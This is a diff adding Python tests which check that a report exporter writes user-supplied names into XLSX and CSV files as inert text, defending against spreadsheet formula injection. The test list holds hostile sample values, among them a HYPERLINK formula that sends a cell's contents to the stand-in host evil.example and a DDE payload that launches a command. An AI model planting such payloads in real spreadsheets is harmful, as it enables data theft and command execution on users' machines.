@@ -8,6 +8,7 @@ show what the (already safe) report holds.
 from __future__ import annotations
 
 import asyncio
+import copy
 import csv
 import io
 import itertools
@@ -351,6 +352,84 @@ def test_xlsx_of_empty_report(reports):
     wb = _workbook(report_xlsx(reports["empty"]))
     assert "Gaps" in wb.sheetnames
     assert wb["Gaps"].max_row == 1  # heading only
+
+
+# -- user text is text, never a formula (OWASP CSV injection) -------------------------
+
+# What a school, a cycle or a filter may be called: each would run as a formula in Excel,
+# LibreOffice or Google Sheets if written as one (a leading tab or CR too, after trimming).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "=1+2",
+    "+1+2",
+    "-1+2",
+    "@SUM(1,2)",
+    "\t=1+2",
+    "\r=1+2",
+    "=cmd|' /C calc'!A0",
+]
+
+
+def _hostile(report: dict[str, Any], school: str, cycle: str) -> dict[str, Any]:
+    out = copy.deepcopy(report)
+    out["school"] = {**out["school"], "name": school, "slug": school}
+    out["cycle"] = {**out["cycle"], "name": cycle}
+    out["filter"] = {**(out.get("filter") or {}), "roles": [cycle], "languages": [school]}
+    return out
+
+
+def test_xlsx_writes_user_text_as_text_never_as_a_formula(reports):
+    for i, text in enumerate(FORMULAS):
+        report = _hostile(reports["now"], text, FORMULAS[-1 - i])
+        wb = _workbook(report_xlsx(report))
+        formulas = [
+            f"{ws.title}!{c.coordinate}={c.value!r}"
+            for ws in wb.worksheets
+            for row in ws.iter_rows()
+            for c in row
+            if c.data_type == "f"
+        ]
+        assert not formulas, formulas
+        summary = wb.worksheets[0]
+        cells = [c for row in summary.iter_rows() for c in row if isinstance(c.value, str)]
+        for given in (text, FORMULAS[-1 - i]):
+            # XML keeps a CR as a newline; the text is otherwise exactly what was given.
+            found = [c for c in cells if c.value.replace("\n", "\r") == given.replace("\n", "\r")]
+            assert found and all(c.data_type == "s" for c in found), (given, found)
+
+
+def test_xlsx_drops_characters_a_workbook_cannot_hold(reports):
+    """Control characters in a name (which XML 1.0 cannot hold) made openpyxl raise."""
+    report = _hostile(reports["now"], "Bad\x01 \x0bschool\x1f", "Cycle \x08one\x00")
+    wb = _workbook(report_xlsx(report))
+    values = [c.value for row in wb.worksheets[0].iter_rows() for c in row]
+    assert "Bad school" in values and "Cycle one" in values
+
+
+def test_csv_text_cells_cannot_start_a_formula(reports):
+    report = copy.deepcopy(reports["now"])
+    first, second = report["indicators"][0], report["indicators"][1]
+    role = next(iter(first["roles"]))
+    texts = {"key": FORMULAS[0], "theme": "+1+2", "criterion": "@SUM(1,2)", "id": "\t=1+2"}
+    first.update(texts)
+    first["roles"][FORMULAS[1]] = first["roles"].pop(role)
+    second["dimension"] = "-1+2"
+    rows = list(csv.DictReader(io.StringIO(report_csv(report).decode("utf-8-sig"))))
+    risky = ("=", "+", "-", "@", "\t", "\r")
+    for row in rows:
+        for column, value in row.items():
+            try:
+                float(value)
+                continue  # a number (a negative gap is one), written as one
+            except ValueError:
+                assert not value.startswith(risky), (column, value)
+    mine = [r for r in rows if r["key"] == "'" + FORMULAS[0]]
+    assert mine and mine[0]["theme"] == "'+1+2" and mine[0]["id"] == "'\t=1+2"
+    assert any(r["role"] == "'" + FORMULAS[1] for r in mine)
+    assert any(r["dimension"] == "'-1+2" for r in rows)
+    # Negative numbers stay numbers.
+    gaps = [float(r["gap"]) for r in rows if r["gap"] not in ("", "suppressed")]
+    assert any(g < 0 for g in gaps)
 
 
 # -- PDF ----------------------------------------------------------------------------
